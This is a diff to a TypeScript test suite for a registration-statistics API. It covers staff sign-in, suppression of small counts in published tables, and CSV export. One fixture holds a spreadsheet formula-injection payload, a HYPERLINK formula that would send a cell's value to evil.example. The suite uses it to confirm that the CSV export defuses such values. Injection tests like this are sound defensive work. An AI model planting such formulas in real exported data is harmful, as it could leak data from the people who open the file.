@@ -7,6 +7,7 @@ import { migrate } from '../src/db/migrations.ts';
 import { createPostgresDb } from '../src/db/postgres-db.ts';
 import type { BatchRecordInput } from '../src/protocol/batch.ts';
 import { makeDevice, makeRecord, sendBatch } from './fixtures.ts';
+import { addStaff, signIn, TEST_AUTH } from './staff.ts';
 
 const bbr = makeDevice('bbr-01', 'BBR');
 const hre = makeDevice('hre-01', 'HRE');
@@ -14,6 +15,9 @@ const hre = makeDevice('hre-01', 'HRE');
 let cluster: PgCluster;
 let db: Db;
 let app: CentralApp;
+let admin: string;
+let statistician: string;
+const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Gwanda")';
 
 const times = (n: number, f: (i: number) => BatchRecordInput) => Array.from({ length: n }, (_, i) => f(i));
 
@@ -21,8 +25,12 @@ beforeAll(async () => {
   cluster = await startPgCluster();
   db = createPostgresDb(cluster.url);
   await migrate(db);
-  app = build({ db, devices: [bbr.config, hre.config] });
+  app = build({ db, devices: [bbr.config, hre.config], auth: TEST_AUTH });
   await app.ready();
+  await addStaff(db, 'stats-admin', 'admin');
+  await addStaff(db, 'stats-statistician', 'statistician');
+  admin = await signIn(app, 'stats-admin');
+  statistician = await signIn(app, 'stats-statistician');
   // BBR March: 7 (3 returning; 4 men, 3 women aged 28 at finalisation).
   const bbrMarch = times(7, (i) =>
     makeRecord('BBR', { returning: i < 3, sex: i < 4 ? 'M' : 'F', birthDate: i < 4 ? '1980-06-01' : '1996-04-02' }, '2025-03-10T09:30:00+02:00'),
@@ -31,8 +39,9 @@ beforeAll(async () => {
   const bbrApril = times(3, (i) =>
     makeRecord('BBR', { districtOfOrigin: i === 0 ? 'Mangwe, "Plumtree"' : 'Gwanda' }, '2025-04-02T08:00:00+02:00'),
   );
-  // HRE March: 6, none returning. Plus one at 23:30 UTC on 31 March = 01:30 on 1 April in Harare.
-  const hreMarch = times(6, () => makeRecord('HRE', {}, '2025-03-15T12:00:00+02:00'));
+  // HRE March: 6, none returning, one from a "district" a spreadsheet would run as a formula.
+  // Plus one at 23:30 UTC on 31 March = 01:30 on 1 April in Harare.
+  const hreMarch = times(6, (i) => makeRecord('HRE', i === 0 ? { districtOfOrigin: HYPERLINK } : {}, '2025-03-15T12:00:00+02:00'));
   const hreBoundary = makeRecord('HRE', {}, '2025-03-31T23:30:00Z');
   for (const [dev, records] of [
     [bbr, [...bbrMarch, ...bbrApril]],
@@ -49,9 +58,10 @@ afterAll(async () => {
   await cluster?.stop();
 });
 
-async function stats(query: string) {
-  const res = await app.inject({ method: 'GET', url: `/api/v1/stats/registrations?${query}` });
-  return res;
+/** As the admin, unsuppressed unless the query asks for publication. */
+async function stats(query: string, cookie = admin) {
+  const microdata = /publication=/.test(query) ? '' : '&publication=false';
+  return app.inject({ method: 'GET', url: `/api/v1/stats/registrations?${query}${microdata}`, headers: { cookie } });
 }
 
 describe('registration statistics', () => {
@@ -67,16 +77,36 @@ describe('registration statistics', () => {
     ]);
   });
 
-  it('suppresses cells under 5 in publication mode, and a returning count that would reveal a small complement', async () => {
-    const res = await stats('groupBy=office,month&publication=true');
-    expect(res.json()).toMatchObject({ publication: true, threshold: 5 });
+  it('publishes by default for a statistician: small cells hidden, and their partners too, so office totals give nothing away', async () => {
+    const res = await stats('groupBy=office,month&year=2025', statistician);
+    expect(res.statusCode).toBe(200);
+    expect(res.json()).toMatchObject({ publication: true, threshold: 5, year: 2025 });
+    // April's 3 (BBR) and 1 (HRE) are under 5; BBR's total (10) and HRE's (7) are published by
+    // groupBy=office, so March's 7 and 6 must go too, or 10 − 7 and 7 − 6 would give them back.
     expect(res.json().rows).toEqual([
-      // 3 returning and 4 first-time: both small, so returning is hidden, the total is not.
-      { office: 'BBR', month: '2025-03', count: 7, returning: null, suppressed: false, returningSuppressed: true },
+      { office: 'BBR', month: '2025-03', count: null, returning: null, suppressed: true, returningSuppressed: true },
       { office: 'BBR', month: '2025-04', count: null, returning: null, suppressed: true, returningSuppressed: true },
-      { office: 'HRE', month: '2025-03', count: 6, returning: 0, suppressed: false, returningSuppressed: false },
+      { office: 'HRE', month: '2025-03', count: null, returning: null, suppressed: true, returningSuppressed: true },
       { office: 'HRE', month: '2025-04', count: null, returning: null, suppressed: true, returningSuppressed: true },
     ]);
+    const byOffice = await stats('groupBy=office&year=2025', statistician);
+    expect(byOffice.json().rows.map((r: Record<string, unknown>) => [r.office, r.count, r.returning])).toEqual([
+      // BBR: 3 returning, 7 first-time; HRE: 0 returning.
+      ['BBR', 10, null],
+      ['HRE', 7, 0],
+    ]);
+  });
+
+  it('gives unsuppressed counts only to an admin who asks for them, and published tables only for one calendar year', async () => {
+    const microdata = await stats('groupBy=office&publication=false', statistician);
+    expect(microdata.statusCode).toBe(403);
+    expect(microdata.json().code).toBe('STATS_MICRODATA_FORBIDDEN');
+    for (const q of ['groupBy=office', 'groupBy=office&from=2025-01-01&to=2025-06-30', 'groupBy=office&year=2025&from=2025-01-01']) {
+      const res = await stats(q, statistician);
+      expect(res.statusCode, q).toBe(400);
+      expect(res.json().code, q).toBe('REQUEST_INVALID');
+    }
+    expect((await stats('groupBy=office&year=2025&publication=true', admin)).json().rows[0]).toMatchObject({ office: 'BBR', count: 10 });
   });
 
   it('groups by sex and five-year age group at finalisation', async () => {
@@ -102,7 +132,7 @@ describe('registration statistics', () => {
   });
 
   it('rejects an unknown dimension, a repeated one and an inverted range with 400 REQUEST_INVALID', async () => {
-    for (const q of ['groupBy=office,salary', 'groupBy=office,office', 'from=2025-05-01&to=2025-04-01', 'from=yesterday']) {
+    for (const q of ['groupBy=office,salary', 'groupBy=office,office', 'from=2025-05-01&to=2025-04-01', 'from=yesterday', 'from=2025-02-30', 'year=1999']) {
       const res = await stats(q);
       expect(res.statusCode, q).toBe(400);
       expect(res.json().code, q).toBe('REQUEST_INVALID');
@@ -112,20 +142,36 @@ describe('registration statistics', () => {
 
 describe('registration statistics as CSV', () => {
   it('exports the published table with suppressed cells empty', async () => {
-    const res = await app.inject({ method: 'GET', url: '/api/v1/stats/registrations.csv?groupBy=office,month&publication=true' });
+    const res = await app.inject({ method: 'GET', url: '/api/v1/stats/registrations.csv?groupBy=office&year=2025', headers: { cookie: statistician } });
     expect(res.statusCode).toBe(200);
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
-    expect(res.body).toBe(
-      'office,month,count,returning,suppressed,returningSuppressed\r\n' +
-        'BBR,2025-03,7,,false,true\r\n' +
-        'BBR,2025-04,,,true,true\r\n' +
-        'HRE,2025-03,6,0,false,false\r\n' +
-        'HRE,2025-04,,,true,true\r\n',
-    );
+    expect(res.body).toBe('office,count,returning,suppressed,returningSuppressed\r\nBBR,10,,false,true\r\nHRE,7,0,false,false\r\n');
+  });
+
+  it('refuses the CSV without a session', async () => {
+    const res = await app.inject({ method: 'GET', url: '/api/v1/stats/registrations.csv?groupBy=office&year=2025' });
+    expect(res.statusCode).toBe(401);
+    expect(res.body).not.toMatch(/BBR/);
+  });
+
+  it('neutralises a district a spreadsheet would run as a formula', async () => {
+    const res = await app.inject({
+      method: 'GET',
+      url: '/api/v1/stats/registrations.csv?groupBy=district&from=2025-03-15&to=2025-03-15&publication=false',
+      headers: { cookie: admin },
+    });
+    const [header, ...lines] = res.body.split('\r\n');
+    expect(header).toBe('district,count,returning,suppressed,returningSuppressed');
+    // Row order follows the cluster's collation; the content does not.
+    expect(lines.sort()).toEqual(['', `"'${HYPERLINK.replace(/"/g, '""')}",1,0,false,false`, 'Gwanda,5,0,false,false'].sort());
   });
 
   it('quotes fields holding commas and quotes per RFC 4180', async () => {
-    const res = await app.inject({ method: 'GET', url: '/api/v1/stats/registrations.csv?groupBy=district&from=2025-04-01&to=2025-04-30' });
+    const res = await app.inject({
+      method: 'GET',
+      url: '/api/v1/stats/registrations.csv?groupBy=district&from=2025-04-01&to=2025-04-30&publication=false',
+      headers: { cookie: admin },
+    });
     expect(res.body).toBe(
       'district,count,returning,suppressed,returningSuppressed\r\n' +
         'Gwanda,3,0,false,false\r\n' +
